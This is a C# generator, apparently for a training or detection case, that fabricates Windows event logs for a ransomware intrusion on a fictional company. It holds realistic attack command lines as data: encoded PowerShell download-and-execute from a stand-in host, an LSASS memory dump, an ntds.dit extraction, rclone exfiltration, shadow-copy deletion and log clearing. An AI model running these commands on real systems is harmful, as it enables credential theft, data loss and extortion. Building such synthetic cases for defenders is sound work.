using System.Globalization;
using static Modus.SampleCase.Clock;
using static Modus.SampleCase.Windows.Hosts;

namespace Modus.SampleCase.Windows;

/// <summary>The malicious Windows events of the storyline, and the related ones that fill the source up to its number.</summary>
internal sealed class Attack(Rng rng)
{
    /// <summary>All malicious events; 2,300 of them are encrypted files.</summary>
    public const int Total = 2470;

    /// <summary>Encrypted files.</summary>
    public const int Encrypted = 2300;

    private const string Shell = Processes.System32 + @"WindowsPowerShell\v1.0\powershell.exe";
    private const string Cmd = Processes.System32 + "cmd.exe";
    private const string Net = Processes.System32 + "net.exe";
    private const string Tasks = Processes.System32 + "schtasks.exe";
    private const string Loader = Processes.System32 + "rundll32.exe";
    private const string Library = @"C:\Users\m.okafor\AppData\Roaming\HarborSync\hsync.dll";
    private const string Pasted = "-w h -nop -enc aQByAG0AIABoAHQAdABwAHMAOgAvAC8AYwBkAG4ALQBwAG8AcgB0AGEAbAAuAGUAeABhAG0AcABsAGUALwB2AHwAaQBlAHgA";

    private readonly Processes _sysmon = new(rng);
    private readonly List<WinEvent> _events = [];

    /// <summary>The events in no particular order.</summary>
    public IReadOnlyList<WinEvent> All()
    {
        Entry();
        Discovery();
        Backups();
        Domains();
        Sharing();
        Ending();
        Beacons(Total - Encrypted - _events.Count(e => e.Story != "E37" || e.Id != 11 || !IsEncrypted(e)));
        return _events;
    }

    private static bool IsEncrypted(WinEvent e) => e.Data.Any(d => d.Name == "TargetFilename" && d.Value.EndsWith(".tidewrack", StringComparison.Ordinal));

    private void Entry()
    {
        Add(_sysmon.Registry(At(9, "08:43:52"), Desk, @"C:\Windows\explorer.exe", @"HKU\S-1-5-21-1715567821-413027322-2204617-4471\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\a", "powershell " + Pasted + @"\1", User, "E02"));
        Add(_sysmon.Start(At(9, "08:43:53"), Desk, Shell, "\"" + Shell + "\" " + Pasted, @"C:\Windows\explorer.exe", User, "E03", "PowerShell.EXE"));
        Add(SecurityEvents.Script(At(9, "08:43:55"), Desk, "$c=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($e));irm https://cdn-portal.example/v | iex", "", "E04"));
        Add(_sysmon.Resolve(At(9, "08:43:56"), Desk, Shell, "cdn-portal.example", "203.0.113.45", User, "E05"));
        Add(_sysmon.Connect(At(9, "08:43:57"), Desk, Shell, User, "203.0.113.45", 443, "E06", "cdn-portal.example"));
        Add(_sysmon.Create(At(9, "08:44:10"), Desk, Shell, Library, User, "E07"));
        Add(_sysmon.Start(At(9, "08:46:31"), Desk, Tasks, $"schtasks /create /tn \"HarborSync Updater\" /sc ONLOGON /tr \"rundll32 {Library},Start\" /f", Shell, User, "E08"));
        Add(SecurityEvents.Task(At(9, "08:46:31"), Desk, "m.okafor", "HarborSync Updater", $"rundll32 {Library},Start", "E08"));
        Add(_sysmon.Start(At(9, "08:46:39"), Desk, Tasks, "schtasks /run /tn \"HarborSync Updater\"", Shell, User, "E08"));
        Add(_sysmon.Start(At(9, "08:46:40"), Desk, Loader, $"rundll32 {Library},Start", Processes.System32 + "svchost.exe", User, "E09", parentCommand: Processes.System32 + "svchost.exe -k netsvcs -p -s Schedule"));
        Add(_sysmon.Load(At(9, "08:46:41"), Desk, Loader, Library, User, "E09"));
    }

    private void Discovery()
    {
        foreach (var (time, image, command) in new[]
        {
            ("09:05:12", "whoami.exe", "whoami /all"),
            ("09:06:03", "ipconfig.exe", "ipconfig /all"),
            ("09:07:41", "netstat.exe", "netstat -ano"),
            ("09:09:18", "nltest.exe", "nltest /domain_trusts /all_trusts"),
            ("09:10:55", "net.exe", "net group \"Domain Admins\" /domain"),
        })
        {
            Add(_sysmon.Start(At(9, time), Desk, Processes.System32 + image, command, Cmd, User, "E10"));
        }

        foreach (var time in new[] { "09:05:11", "09:09:17", "09:10:54" })
            Add(_sysmon.Start(At(9, time), Desk, Cmd, "cmd.exe /c", Loader, User, "E10"));
        Add(_sysmon.Start(At(9, "09:12:26"), Desk, @"C:\Users\m.okafor\AppData\Local\Temp\adq.exe", "adq.exe -f objectcategory=computer", Cmd, User, "E11", original: "dirquery.exe"));
        Add(_sysmon.Create(At(9, "09:12:31"), Desk, @"C:\Users\m.okafor\AppData\Local\Temp\adq.exe", @"C:\Users\m.okafor\AppData\Local\Temp\c.txt", User, "E11"));
        Add(Processes.Service(SensorStop, Desk, "Stopped", "G1"));
        Add(SecurityEvents.ServiceState(SensorStop, Desk, "Sysmon64", "stopped", "G1"));
        var services = new[] { "svc_backup", "svc_sql01", "svc_web", "svc_scan", "svc_print", "svc_bi", "svc_fax", "svc_mdm", "svc_crm", "svc_wms", "svc_tms", "svc_edi", "svc_hr", "svc_vpn" };
        for (var i = 0; i < services.Length; i++)
            Add(SecurityEvents.Ticket(At(9, "10:12:04").AddSeconds(i * 40.0 / 13), "m.okafor", services[i], AddressOf(Desk), "0x17", "E12"));
    }

    private void Backups()
    {
        var address = AddressOf(Desk);
        Add(SecurityEvents.Logon(At(10, "02:14:20"), Backup, "svc_backup", 10, address, "E13"));
        Add(SecurityEvents.Session(At(10, "02:14:22"), Backup, "svc_backup", address, "E13"));
        Add(SecurityEvents.Logoff(At(10, "04:02:10"), Backup, "svc_backup", 10, "E13"));
        Add(SecurityEvents.NewService(At(10, "02:17:02"), Backup, "AnyDesk", "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --service", "E14"));
        Add(_sysmon.Start(At(10, "02:17:02"), Backup, @"C:\Users\svc_backup\Downloads\AnyDesk.exe", "AnyDesk.exe --install \"C:\\Program Files (x86)\\AnyDesk\" --silent", @"C:\Windows\explorer.exe", Service, "E14"));
        Add(_sysmon.Start(At(10, "02:17:05"), Backup, @"C:\Program Files (x86)\AnyDesk\AnyDesk.exe", "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --service", Processes.System32 + "services.exe", Hosts.System, "E14"));
        Add(SecurityEvents.Script(At(10, "02:24:45"), Backup, @"Add-MpPreference -ExclusionPath C:\PerfLogs", "", "E15"));
        Add(_sysmon.Start(At(10, "02:24:45"), Backup, Shell, @"powershell Add-MpPreference -ExclusionPath C:\PerfLogs", Cmd, Service, "E15", "PowerShell.EXE"));
        Add(SecurityEvents.Antivirus(At(10, "02:24:46"), Backup, "", @"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\PerfLogs = 0x0", "E15"));
        Add(_sysmon.Start(At(10, "02:31:09"), Backup, Loader, @"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\PerfLogs\l.dmp full", Cmd, Service, "E16"));
        Add(_sysmon.Access(At(10, "02:31:09").AddMilliseconds(310), Backup, Loader, Processes.System32 + "lsass.exe", "0x1fffff", "E16"));
        Add(_sysmon.Create(At(10, "02:31:10"), Backup, Loader, @"C:\PerfLogs\l.dmp", Service, "E16"));
    }

    private void Domains()
    {
        var address = AddressOf(Backup);
        Add(SecurityEvents.Logon(At(10, "02:52:30"), Domain, "svc_backup", 3, address, "E17"));
        Add(SecurityEvents.Share(At(10, "02:52:33"), Domain, "svc_backup", address, "ADMIN$", "hlfsvc.exe", "E17", "0x12019f"));
        Add(SecurityEvents.NewService(At(10, "02:52:33").AddMilliseconds(700), Domain, "hlfsvc", @"%SystemRoot%\hlfsvc.exe", "E17"));
        Add(SecurityEvents.ServiceState(At(10, "02:52:34"), Domain, "hlfsvc", "running", "E17"));
        Add(SecurityEvents.Logoff(At(10, "03:10:02"), Domain, "svc_backup", 3, "E17"));
        Add(_sysmon.Start(At(10, "03:02:18"), Domain, Processes.System32 + "ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full C:\\PerfLogs\\n\" q q", @"C:\Windows\hlfsvc.exe", Hosts.System, "E18"));
        Add(SecurityEvents.Database(At(10, "03:02:24"), 325, @"C:\PerfLogs\n\Active Directory\ntds.dit", "E18"));
        Add(SecurityEvents.Database(At(10, "03:02:51"), 327, @"C:\PerfLogs\n\Active Directory\ntds.dit", "E18"));
        Add(SecurityEvents.Logon(At(10, "03:31:36"), Files, "svc_backup", 3, address, "E19"));
        Add(SecurityEvents.Share(At(10, "03:31:40"), Files, "svc_backup", address, "it$", @"keys\lnx-app03.pem", "E19"));
        Add(SecurityEvents.ReadFile(At(10, "03:31:40").AddMilliseconds(120), Files, "svc_backup", @"D:\it\keys\lnx-app03.pem", "", "E19"));
        Add(SecurityEvents.Logoff(At(10, "03:34:01"), Files, "svc_backup", 3, "E19"));
    }

    private void Sharing()
    {
        const string Zip = @"C:\Program Files\7-Zip\7z.exe";
        Add(_sysmon.Start(At(12, "01:05:10"), Files, Zip, @"7z a -pT1de!wrack -v2g C:\PerfLogs\a\fin.7z D:\finance\*", Cmd, Service, "E32"));
        for (var i = 1; i <= 12; i++)
            Add(_sysmon.Create(At(12, "01:05:12").AddSeconds(i * 80), Files, Zip, $@"C:\PerfLogs\a\fin.7z.{i:D3}", Service, "E32"));
        const string Copy = @"C:\PerfLogs\svchost-sync.exe";
        Add(_sysmon.Start(At(12, "01:40:00"), Files, Copy, Copy + @" copy C:\PerfLogs\a remote:hf --transfers 8", Cmd, Service, "E33", original: "rclone.exe"));
        Add(_sysmon.Resolve(At(12, "01:40:02"), Files, Copy, "store.cdn-portal.example", "203.0.113.90", Service, "E33"));
        for (var i = 0; i < 4; i++)
            Add(_sysmon.Connect(At(12, "01:40:03").AddMinutes(i * 7), Files, Copy, Service, "203.0.113.90", 443, "E33", "store.cdn-portal.example"));
    }

    private void Ending()
    {
        Add(_sysmon.Start(At(13, "04:10:02"), Backup, Processes.System32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet", Cmd, Service, "E34"));
        Add(_sysmon.Start(At(13, "04:10:09"), Backup, Processes.System32 + "wbadmin.exe", "wbadmin delete catalog -quiet", Cmd, Service, "E34"));
        var stopped = new[] { "VeeamBackupSvc", "SQLWriter", "MSSQLSERVER", "SQLSERVERAGENT", "vmms", "BackupExecJobEngine", "MSExchangeIS", "wbengine", "swprv", "VSS", "AcronisAgent" };
        for (var i = 0; i < stopped.Length; i++)
            Add(_sysmon.Start(At(13, "04:10:40").AddSeconds(i * 2), Backup, Net, $"net stop \"{stopped[i]}\" /y", Cmd, Service, "E35"));
        foreach (var host in new[] { Backup, Files })
        {
            Add(SecurityEvents.Cleared(At(13, "04:11:15"), host, true, "svc_backup", "E36"));
            Add(SecurityEvents.Cleared(At(13, "04:11:16"), host, false, "svc_backup", "E36"));
        }

        const string Tool = @"C:\PerfLogs\hlfenc.exe";
        Add(_sysmon.Start(At(13, "04:11:58"), Files, Tool, @"C:\PerfLogs\hlfenc.exe -p D:\ -t 8", Cmd, Service, "E37"));
        var kinds = new[] { "xlsx", "pdf", "docx", "csv" };
        var folders = new[] { "payables", "receivables", "payroll", "customs", "contracts", "ledger", "tax", "audit" };
        for (var i = 0; i < Encrypted; i++)
        {
            var folder = folders[i * folders.Length / Encrypted];
            Add(_sysmon.Create(At(13, "04:12:00").AddMilliseconds(i * 182L), Files, Tool, $@"D:\finance\{folder}\{(folder[0] == 'p' ? "p" : "f")}-{20_000 + i}.{kinds[i % 4]}.tidewrack", Service, "E37"));
            if (i % (Encrypted / folders.Length) == 0 && i / (Encrypted / folders.Length) < folders.Length)
                Add(_sysmon.Create(At(13, "04:12:00").AddMilliseconds((i * 182L) + 40), Files, Tool, $@"D:\finance\{folder}\READ-ME-TO-RESTORE.txt", Service, "E37"));
        }
    }

    /// <summary>The loader calls home until the operators leave the workstation.</summary>
    private void Beacons(int count)
    {
        if (count < 20) throw new InvalidOperationException(string.Create(CultureInfo.InvariantCulture, $"{count} beacons are left: the named events are too many"));
        foreach (var time in Spread(rng, count, At(9, "08:47:00"), At(10, "02:10:00"), SensorStop, SensorStart))
            Add(_sysmon.Connect(time, Desk, Loader, User, "203.0.113.45", 443, "E06", "cdn-portal.example"));
    }

    private void Add(WinEvent added) => _events.Add(added);
}
